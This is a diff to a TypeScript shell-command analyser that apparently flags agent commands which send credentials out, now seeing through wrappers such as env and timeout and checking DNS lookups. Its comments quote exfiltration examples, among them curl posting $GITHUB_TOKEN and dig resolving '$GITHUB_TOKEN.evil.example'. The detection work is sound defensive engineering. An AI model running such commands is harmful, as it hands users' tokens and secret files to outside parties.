@@ -33,8 +33,9 @@ import { pathOnlyEdit, plantedProgram, plantsNoCode, shownEdit } from './planted
 import { storedToken } from './token-config.js';
 import { BUILTIN_AT, stepFileWrite } from './ci-files.js';
 import { fetchedFiles } from './remote-copies.js';
-import { credentialNameIn, credentialOf, madeBelow, DIGESTS, digestOnly, loopbackSocket, DOWNLOADERS, envCredentialOf, fileExists, isSecretPath, realOf, rootIgnoreFile, secretOfVar, MAX_DEPTH, NETWORK_TOOLS, SERVICE_CLIS, storesSetting, namesOtherOwner, switchesAccount, UNKNOWN_CWD, type Info, type State } from './state.js';
+import { credentialNameIn, credentialOf, madeBelow, DIGESTS, DNS_TOOLS, ENVIRON, digestOnly, loopbackSocket, DOWNLOADERS, envCredentialOf, fileExists, isSecretPath, realOf, rootIgnoreFile, secretOfVar, MAX_DEPTH, NETWORK_TOOLS, SERVICE_CLIS, ownSettingHere, namesOtherOwner, otherCluster, RELINKS, settingsVerb, switchesAccount, UNKNOWN_CWD, type Info, type State } from './state.js';
 import { isShell, quote, withPositionals } from './unwrap.js';
+import { wrappedCommand } from './wrapped-command.js';
 import { languageOf } from './interpreters.js';
 import { meantLines, understoodPrefix } from './syntax-repair.js';
 
@@ -957,12 +958,24 @@ function judgeSimple(st: State, fc: FlatCommand, flat: FlatCommand[], info: Info
   // (…or to a service's client, which sends what it reads — vercel env add N --scope other <<< "$GITHUB_TOKEN" — unless it
   // stores it as the project's own setting: wrangler secret put N <<< "$CLOUDFLARE_API_TOKEN".)
   // (…and as the agent's own account: HEROKU_API_KEY=KEY on the line acts as KEY's owner, who may be anyone.)
-  const ownSetting = storesSetting(posix.basename(argv[0] ?? ''), argv.slice(1)) && !switchesAccount(posix.basename(argv[0] ?? ''), cmdEnv, st.ctx.env);
-  const serviceSends = SERVICE_CLIS.test(posix.basename(argv[0] ?? '')) && !ownSetting;
-  if (stdinSecret === undefined && stdinText !== undefined && !stdinLiteral && (NETWORK_TOOLS.has(posix.basename(argv[0] ?? '')) || serviceSends || /^(read|mapfile|readarray|cat)$/.test(argv[0] ?? ''))) {
+  // (Through its wrappers: env GH_REPO=evil/x gh …, nice heroku … -a evil, timeout 30 curl -d "$GITHUB_TOKEN" — wrapped-command.ts.)
+  const inner = wrappedCommand(argv);
+  const innerName = posix.basename(inner.argv[0] ?? '');
+  const innerEnv = { ...cmdEnv, ...inner.env };
+  const innerCwd = inner.cwd === undefined ? cwd : /^[$`]/.test(inner.cwd) ? UNKNOWN_CWD : posix.resolve(cwd, inner.cwd.replace(/^~(?=\/|$)/, st.ctx.home));
+  // (…unless the line re-points that link first: state.ts RELINKS.)
+  const relinked = (SERVICE_CLIS.test(innerName) || innerName === 'gh') && RELINKS.test(st.lineText);
+  const ownSetting = ownSettingHere(innerName, inner.argv.slice(1), innerEnv, st.ctx.env, innerCwd, st.ctx.projectRoot) && !relinked;
+  const serviceSends = SERVICE_CLIS.test(innerName) && !ownSetting;
+  const ghOwnSecret = innerName === 'gh' && inner.argv[1] === 'secret' && inner.argv[2] === 'set' && !namesOtherOwner('gh', inner.argv.slice(3)) && !switchesAccount('gh', innerEnv, st.ctx.env)
+    && (innerCwd === st.ctx.projectRoot || innerCwd.startsWith(`${st.ctx.projectRoot}/`)) && !relinked;
+  if (stdinSecret === undefined && stdinText !== undefined && !stdinLiteral && (NETWORK_TOOLS.has(innerName) || serviceSends || /^(read|mapfile|readarray|cat)$/.test(argv[0] ?? ''))) {
     // (Also a copy of one, or one named indirectly: t=$GITHUB_TOKEN; … <<< "$t".)
     for (const m of stdinText.matchAll(/\$\{?(!?)([A-Za-z_]\w*)/g)) stdinSecret ??= credentialOf(st, m[2]!, cmdEnv, m[1] === '!');
   }
+  // (A credential given to the project's own settings store on stdin is stored there, not sent — echo "$GITHUB_TOKEN" | wrangler secret put GH, printf %s "$PW" | gcloud secrets create pw --data-file=-,
+  // as its words are. A secret file's text piped there is still sent: cat .env | fly secrets import.)
+  if ((ownSetting || ghOwnSecret) && stdinSecret === ENVIRON) stdinSecret = undefined;
   // What code read from a file named at run time, piped on: possibly a secret (the name is not known).
   const maybeSecret = fc.stdinFrom.some((up) => info[up]?.maybeSecretOut);
   const cmdCtx: Context = { ...st.ctx, cwd, git: gitAt(st.ctx, cwd, st.worktrees), ...(movedOut(st.ctx, cwd, st.worktrees) ? { movedOut: true } : {}), ...(st.clones.has(cwd) ? { freshClone: true } : {}), env: cmdEnv, stdin: stdin ? madeAs(resolve(stdin)) : stdinSecret, stdout: undefined, ...(cwd === UNKNOWN_CWD && st.cwdGuess !== undefined ? { cwdGuess: st.cwdGuess } : {}) };
@@ -974,9 +987,9 @@ function judgeSimple(st: State, fc: FlatCommand, flat: FlatCommand[], info: Info
   // (Not an operand the line already read as what its expansion names — a listing's files, a captured directory.)
   const fields = new Map(argv.flatMap((a, k): [string, string[]][] => (k > 0 && argvWords[k] && a === argvWords[k]!.value ? [[a, splitFields(argvWords[k]!)]] : [])).filter(([, f]) => f.length > 0));
   if (fields.size) cmdCtx.splitFields = fields;
-  if (maybeSecret && (NETWORK_TOOLS.has(posix.basename(argv[0] ?? '')) || argv[0] === 'gh')) {
+  if (maybeSecret && NETWORK_TOOLS.has(innerName)) {
     st.lineTags.tags.add('interpreter-opaque');
-    st.lineTags.notes.push(`${argv[0]} sends what a program read from a file whose name is computed at run time`);
+    st.lineTags.notes.push(`${innerName} sends what a program read from a file whose name is computed at run time`);
   }
 
   if (argv.length === 0) {
@@ -1065,36 +1078,38 @@ function judgeSimple(st: State, fc: FlatCommand, flat: FlatCommand[], info: Info
     const name = /^[A-Za-z_]\w*/.exec(argvWords[0]!.raw)![0];
     return { info: rec, cwd, env: { ...nextEnv, [`${name}[@]`]: undefined } };
   }
+  // (These read the words of the program the wrappers run — env npm install "$p", nice git "$op": wrapped-command.ts.)
+  const iw = argvWords.slice(inner.at);
   // A package manager told to install a name or URL only known at run time (npm install "$(… | base64 -d)").
-  if (argvWords[0]!.static && INSTALLERS.test(posix.basename(argv[0] ?? '')) && /^(install|i|add|get)$/.test(argvWords.find((w, k) => k > 0 && !w.value.startsWith('-'))?.value ?? '') && argvWords.some((w, k) => k > 1 && !w.static && !w.value.startsWith('-') && !ARGUMENT_WORD.test(w.raw))) {
+  if (iw[0]?.static && INSTALLERS.test(innerName) && /^(install|i|add|get)$/.test(iw.find((w, k) => k > 0 && !w.value.startsWith('-'))?.value ?? '') && iw.some((w, k) => k > 1 && !w.static && !w.value.startsWith('-') && !ARGUMENT_WORD.test(w.raw))) {
     st.lineTags.tags.add('dynamic-command');
-    st.lineTags.notes.push(`${argv[0]} installs a package only known when the line runs`);
+    st.lineTags.notes.push(`${innerName} installs a package only known when the line runs`);
   }
   // A tool whose first word picks what it does (git, npm, docker …) given that word only at run
   // time (`npm $p`, `git "$op" origin main`): what it will do is not known.
   // (Past the global options the tool takes before it, read from its table: kubectl -n "$NS" get — "$NS" is a value.
   // An unquoted computed value may split into several words, one of them then standing where the subcommand does:
   // that word is taken for the subcommand; so is a KEY=VALUE value whose key is computed — git -c "$kv".)
-  const tool = posix.basename(argv[0] ?? '');
-  const subAt = argvWords[0]!.static && SUBCOMMAND_TOOLS.test(tool) ? 1 + subcommandIndex(tool, argv.slice(1)) : 0;
+  const tool = innerName;
+  const subAt = iw[0]?.static && SUBCOMMAND_TOOLS.test(tool) ? 1 + subcommandIndex(tool, inner.argv.slice(1)) : 0;
   const unknownBefore = (w: Word, k: number): boolean => k > 0 && k < subAt && (w.value.startsWith('-')
     // (--config-env="$K=V": a KEY=VALUE attached to its option.)
     ? /^--[\w-]+=/.test(w.value) && keyedOption(tool, w.value.split('=')[0]!) && /[$`]/.test(w.raw.split('=').slice(0, 2).join('='))
-    : w.parts.some((p) => (p.kind === 'param' || p.kind === 'command-sub') && !p.quoted) || (keyedOption(tool, argv[k - 1]!) && /[$`]/.test(w.raw.split('=')[0]!)));
-  const splitAt = subAt > 0 ? argvWords.findIndex(unknownBefore) : -1;
+    : w.parts.some((p) => (p.kind === 'param' || p.kind === 'command-sub') && !p.quoted) || (keyedOption(tool, inner.argv[k - 1]!) && /[$`]/.test(w.raw.split('=')[0]!)));
+  const splitAt = subAt > 0 ? iw.findIndex(unknownBefore) : -1;
   const verbAt = splitAt > 0 ? splitAt : subAt;
   // (A function's or script's own arguments — "$@", $1 — are judged where it is called with them; an
   // argument list a program file computes is judged by that file's own rules.)
-  if (verbAt > 0 && !argvWords[verbAt]!.static && !ARGUMENT_WORD.test(argvWords[verbAt]!.raw)) {
+  if (verbAt > 0 && !iw[verbAt]!.static && !ARGUMENT_WORD.test(iw[verbAt]!.raw)) {
     st.lineTags.tags.add('dynamic-command');
-    st.lineTags.notes.push(`${argv[0]}'s subcommand ${argvWords[verbAt]!.raw} is only known when the line runs`);
+    st.lineTags.notes.push(`${tool}'s subcommand ${iw[verbAt]!.raw} is only known when the line runs`);
   }
   // …and a subcommand whose destructive form an option picks (git branch -D, reset --hard) given an unquoted
   // run-time value where an option may stand: the value may split into that option.
-  const optionWord = verbAt > 0 && argvWords[verbAt]!.static ? splitOptionWord(tool, argvWords, verbAt, st.fieldLoopVars, st.globLoopVars, st.anyGlobLoopVars) : undefined;
+  const optionWord = verbAt > 0 && iw[verbAt]!.static ? splitOptionWord(tool, iw, verbAt, st.fieldLoopVars, st.globLoopVars, st.anyGlobLoopVars) : undefined;
   if (optionWord) {
     st.lineTags.tags.add('dynamic-command');
-    st.lineTags.notes.push(`${argv[0]} ${argvWords[verbAt]!.value}'s options include ${optionWord.raw}, only known when the line runs`);
+    st.lineTags.notes.push(`${tool} ${iw[verbAt]!.value}'s options include ${optionWord.raw}, only known when the line runs`);
   }
   // …and find's primaries, sed's script or awk's program given a run-time value where it picks what they do.
   const programWord = argvWords[0]!.static ? computedProgramWord(tool, argvWords, { argumentWord: ARGUMENT_WORD, setHere: (n) => setInLine(st, n), lineText: st.lineText }) : undefined;
@@ -1181,9 +1196,15 @@ function judgeSimple(st: State, fc: FlatCommand, flat: FlatCommand[], info: Info
   // (gh secret set for this repository stores the value as the repository's secret: its everyday use; so do a service
   // client's own settings and secrets — state.ts storesSetting.)
   // (kubectl/oc exec hand the words the local shell expanded to a pod on the cluster; jq --arg t "$TOKEN" prints it on, as echo does.)
-  const sender = (NETWORK_TOOLS.has(posix.basename(argv[0] ?? '')) || serviceSends || /^(echo|printf|jq|gojq|jaq|yq)$/.test(argv[0] ?? '') || (/^(kubectl|oc)$/.test(posix.basename(argv[0] ?? '')) && argv.includes('exec'))) && !(argv[0] === 'gh' && argv[1] === 'secret' && argv[2] === 'set' && !namesOtherOwner('gh', argv.slice(3)) && !switchesAccount('gh', cmdEnv, st.ctx.env));
+  // (…its own words only, not a wrapper's: env GH_TOKEN="$GITHUB_TOKEN" gh … hands the client its own credential.)
+  // (A name looked up is sent too — to the resolver and the name's own DNS servers: dig "$GITHUB_TOKEN.evil.example" hands the
+  // token to whoever runs evil.example's, as a secret file's text there already was.)
+  const sender = (NETWORK_TOOLS.has(innerName) || DNS_TOOLS.has(innerName) || serviceSends || /^(echo|printf|jq|gojq|jaq|yq)$/.test(innerName) || (/^(kubectl|oc)$/.test(innerName) && inner.argv.includes('exec')) || otherCluster(innerName, inner.argv.slice(1), innerEnv, st.ctx.env)) && !ghOwnSecret;
   // (Also through a name held in another variable: ${!n} with n=GITHUB_TOKEN, a declare -n reference, a copy.)
-  const envSecret = sender && !varSecret && !substitutedSecret ? argvWords.map((w, k) => (authUse(argvWords[k - 1]?.value, w.raw) ? undefined : [...expansionsOf(w).matchAll(/\$\{?(!?)([A-Za-z_]\w*)/g)].map((m) => credentialOf(st, m[2]!, cmdEnv, m[1] === '!')).find((x) => x !== undefined))).find((x) => x !== undefined) : undefined;
+  // (A stored value is no authentication, whatever its option is called: aws secretsmanager put-secret-value --secret-string V
+  // --profile other puts V in that account.)
+  const storedElsewhere = !ownSetting && settingsVerb(innerName, inner.argv.slice(1));
+  const envSecret = sender && !varSecret && !substitutedSecret ? argvWords.map((w, k) => ((k > 0 && k < inner.at) || (!storedElsewhere && authUse(argvWords[k - 1]?.value, w.raw)) ? undefined : [...expansionsOf(w).matchAll(/\$\{?(!?)([A-Za-z_]\w*)/g)].map((m) => credentialOf(st, m[2]!, cmdEnv, m[1] === '!')).find((x) => x !== undefined))).find((x) => x !== undefined) : undefined;
   if (/^(declare|typeset|local)$/.test(argv[0] ?? '') && argv.some((a) => /^-[a-zA-Z]*n/.test(a))) for (const a of argv.slice(1)) {
     const m = /^([A-Za-z_]\w*)=([A-Za-z_]\w*)$/.exec(a);
     if (m) {
